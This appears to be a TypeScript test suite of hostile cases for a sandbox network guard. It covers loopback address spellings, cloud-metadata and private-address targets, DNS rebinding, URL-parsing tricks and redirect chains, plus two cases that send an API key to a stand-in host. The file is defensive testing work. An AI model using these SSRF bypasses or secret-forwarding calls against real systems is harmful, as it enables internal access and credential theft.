import type { HostileCase, HostileClass } from '../hostile-case.ts'

const ANY = ['*.example', 'api.example', 'localhost', '127.0.0.1']
const INSIDE = /not on the public internet|does not declare|no network|no hosts/

const sockets: HostileCase[] = [
  {
    name: 'every way out at once, with nothing declared',
    body: `const url = 'http://127.0.0.1:' + parameters.port + '/'
      const ways = [() => fetch(url), () => ServiceWorkerGlobalScope.prototype.fetch.call(globalThis, url), () => new WebSocket(url.replace('http', 'ws')), () => new EventSource(url), () => navigator.sendBeacon(url, 'x'), () => caches.default.match(url), () => fetch(new Request(url))]
      const ends = await Promise.all(ways.map(async (way) => { try { await way(); return 'quiet' } catch (error) { return error.name } }))
      await scheduler.wait(100); return ends.length`,
    ends: { returns: 7 },
  },
  {
    name: 'every way out at once, with hosts declared',
    body: `const url = 'http://127.0.0.1:' + parameters.port + '/'
      const ways = [() => ServiceWorkerGlobalScope.prototype.fetch.call(globalThis, url), () => new WebSocket(url.replace('http', 'ws')), () => new EventSource(url), () => navigator.sendBeacon(url, 'x')]
      await Promise.all(ways.map(async (way) => { try { await way() } catch {} })); await scheduler.wait(100); return 'tried'`,
    network: ANY,
    ends: { returns: 'tried' },
  },
  {
    name: 'a WebSocket to a declared host',
    body: `const socket = new WebSocket('ws://api.example:' + parameters.port + '/'); return new Promise((resolve) => { socket.addEventListener('open', () => resolve('open')); socket.addEventListener('error', () => resolve('refused')); socket.addEventListener('close', () => resolve('refused')) })`,
    network: ANY,
    ends: { returns: 'refused' },
  },
  {
    name: 'an upgrade by hand',
    body: `const response = await fetch('http://api.example:' + parameters.port + '/', { headers: { upgrade: 'websocket', connection: 'upgrade' } }); return response.webSocket ? 'open' : response.status`,
    network: ANY,
    limits: { wallMs: 1_000 },
    ends: 'anyhow',
  },
  {
    name: 'a tunnel with CONNECT',
    body: `return (await fetch('http://api.example:' + parameters.port + '/', { method: 'CONNECT' })).status`,
    network: ANY,
    ends: { throws: /./ },
  },
  {
    name: 'TRACE, which would tell what the guard adds',
    body: `return (await fetch('http://api.example:' + parameters.port + '/', { method: 'TRACE' })).status`,
    network: ANY,
    ends: 'anyhow',
  },
  {
    name: 'schemes other than HTTP',
    body: `const refused = []; for (const scheme of ['ftp', 'gopher', 'unix', 'ws', 'data', 'blob', 'javascript', 'about']) { try { await fetch(scheme + '://api.example/'); } catch { refused.push(scheme) } } return refused.includes('ftp') && refused.includes('unix')`,
    network: ANY,
    ends: { returns: true },
  },
  {
    name: 'a unix socket in a URL',
    body: `return (await fetch('http://unix:' + parameters.socket + ':/')).status`,
    network: ANY,
    ends: { throws: /./ },
  },
]

// Each one is, or leads to, 127.0.0.1.
const SPELLINGS = [
  '127.0.0.1',
  '127.1',
  '0x7f000001',
  '2130706433',
  '017700000001',
  '0177.0.0.1',
  '127.0.0.1.',
  '0.0.0.0',
  '0',
  '[::1]',
  '[::]',
  '[::ffff:127.0.0.1]',
  '[::ffff:7f00:1]',
  '[::127.0.0.1]',
  '[64:ff9b::7f00:1]',
  'localhost',
  'LOCALHOST.',
  'a.localhost',
  '１２７.0.0.1',
  '127。0。0。1',
  '⑫7.0.0.1',
  '169.254.169.254',
  '[fe80::1]',
  '[fd00:ec2::254]',
  '10.0.0.1',
  '100.64.0.1',
  '192.0.0.192',
]

const addresses: HostileCase[] = [
  {
    name: 'the machine itself in every spelling, all declared',
    body: `const refused = []; for (const host of ${JSON.stringify(SPELLINGS)}) { try { await fetch('http://' + host + ':' + parameters.port + '/') } catch { refused.push(host) } } return refused.length`,
    network: [...SPELLINGS.map((host) => host.replace(/[[\]]/g, '')), '*.localhost'],
    ends: { returns: SPELLINGS.length },
  },
  ...[
    ['a name that leads to loopback', 'loop.example'],
    ['a name that leads to loopback in IPv6', 'loop6.example'],
    ['a name that leads to loopback mapped into IPv6', 'mapped.example'],
    ['a name that leads to a private address', 'private.example'],
    ['a name that leads to metadata', 'metadata.example'],
    ['a name that leads to 0.0.0.0', 'zero.example'],
    ['a name with one good and one bad address', 'both.example'],
    ['an unknown name', 'nobody.example'],
    ['a host that was not declared', 'api.elsewhere'],
    ['a host that ends like a declared one', 'notapi.example.evil'],
  ].map(
    ([name = '', host]): HostileCase => ({
      name,
      body: `return (await fetch('http://${host}:' + parameters.port + '/')).status`,
      network: ['*.example'],
      ends: { throws: /not on the public internet|does not declare|There is no host/ },
    }),
  ),
  {
    name: 'a name that answers otherwise the second time',
    body: `const at = 'http://rebind.example:' + parameters.port + '/'; const first = (await fetch(at)).status; const second = await fetch(at).then((r) => r.status, (error) => error.message); return [first, second]`,
    network: ['*.example'],
    ends: { returns: [200, 'rebind.example is not on the public internet.'] },
  },
  {
    name: 'the parent of a wildcard',
    body: `return (await fetch('http://example:' + parameters.port + '/')).status`,
    network: ['*.example'],
    ends: { throws: INSIDE },
  },
  {
    name: 'credentials in the URL, to look like another host',
    body: `return (await fetch('http://api.example@127.0.0.1:' + parameters.port + '/')).status`,
    network: ANY,
    ends: { throws: /./ },
  },
  {
    name: 'a backslash, a tab and a second at-sign in the URL',
    body: `const refused = []; for (const url of ['http://127.0.0.1\\\\@api.example:1/', 'http://127.0.0.1\\t:' + parameters.port, 'http://a@127.0.0.1@api.example/', 'http:/127.0.0.1:' + parameters.port, 'http:127.0.0.1:' + parameters.port]) { try { await fetch(url) } catch { refused.push(url) } } return refused.length`,
    network: ['api.example'],
    ends: { returns: 5 },
  },
  {
    name: 'a host of ten thousand letters',
    body: `return fetch('http://' + 'a'.repeat(10_000) + '.example/')`,
    network: ['*.example'],
    ends: { throws: /./ },
  },
]

const hop = (to: string) =>
  `return (await fetch('http://api.example:' + parameters.port + '/hop?to=' + encodeURIComponent(${to}))).status`
const redirects: HostileCase[] = [
  {
    name: 'a redirect to the machine itself',
    body: hop(`'http://127.0.0.1:' + parameters.port + '/'`),
    network: ANY,
    ends: { throws: INSIDE },
  },
  {
    name: 'a redirect to metadata',
    body: hop(`'http://169.254.169.254/latest/meta-data/'`),
    network: ANY,
    ends: { throws: INSIDE },
  },
  {
    name: 'a redirect to a name that leads inside',
    body: hop(`'http://loop.example:' + parameters.port + '/'`),
    network: ANY,
    ends: { throws: INSIDE },
  },
  {
    name: 'a redirect to a host that was not declared',
    body: hop(`'http://api.elsewhere/'`),
    network: ANY,
    ends: { throws: INSIDE },
  },
  {
    name: 'a redirect to a file',
    body: hop(`'file://' + parameters.file`),
    network: ANY,
    ends: { throws: /./ },
  },
  {
    name: 'a redirect without a host',
    body: hop(`'//127.0.0.1:' + parameters.port + '/'`),
    network: ANY,
    ends: { throws: INSIDE },
  },
  {
    name: 'a ring of redirects',
    body: `const at = 'http://api.example:' + parameters.port; let to = at + '/hop?to='; for (let n = 0; n < 1; n++) to = at + '/hop?to=' + encodeURIComponent('/hop?to=/hop'); return (await fetch(to)).status`,
    network: ANY,
    ends: 'anyhow',
  },
  {
    name: 'an echo of the secret, spelled in many ways, read and sent on',
    body: `const echo = (await (await fetch('http://api.example:' + parameters.port + '/echo', { headers: { authorization: 'Basic ' + btoa('me:' + config.api_key) }, method: 'POST', body: config.api_key })).text())
        await fetch('http://other.example:' + parameters.port + '/', { method: 'POST', body: echo }); return echo.length > 0`,
    network: ANY,
    ends: { returns: true },
  },
  {
    name: 'a redirect that takes the secret along to another host',
    body: `const to = 'http://other.example:' + parameters.port + '/?k=' + config.api_key
      return (await fetch('http://api.example:' + parameters.port + '/hop?to=' + encodeURIComponent(to), { headers: { authorization: 'Bearer ' + config.api_key, 'x-key': config.api_key } })).status`,
    network: ANY,
    ends: 'anyhow',
  },
]

export const NETWORK: HostileClass[] = [
  { name: 'sockets', language: 'javascript', cases: sockets },
  { name: 'addresses and DNS rebinding', language: 'javascript', cases: addresses },
  { name: 'redirects', language: 'javascript', cases: redirects },
]
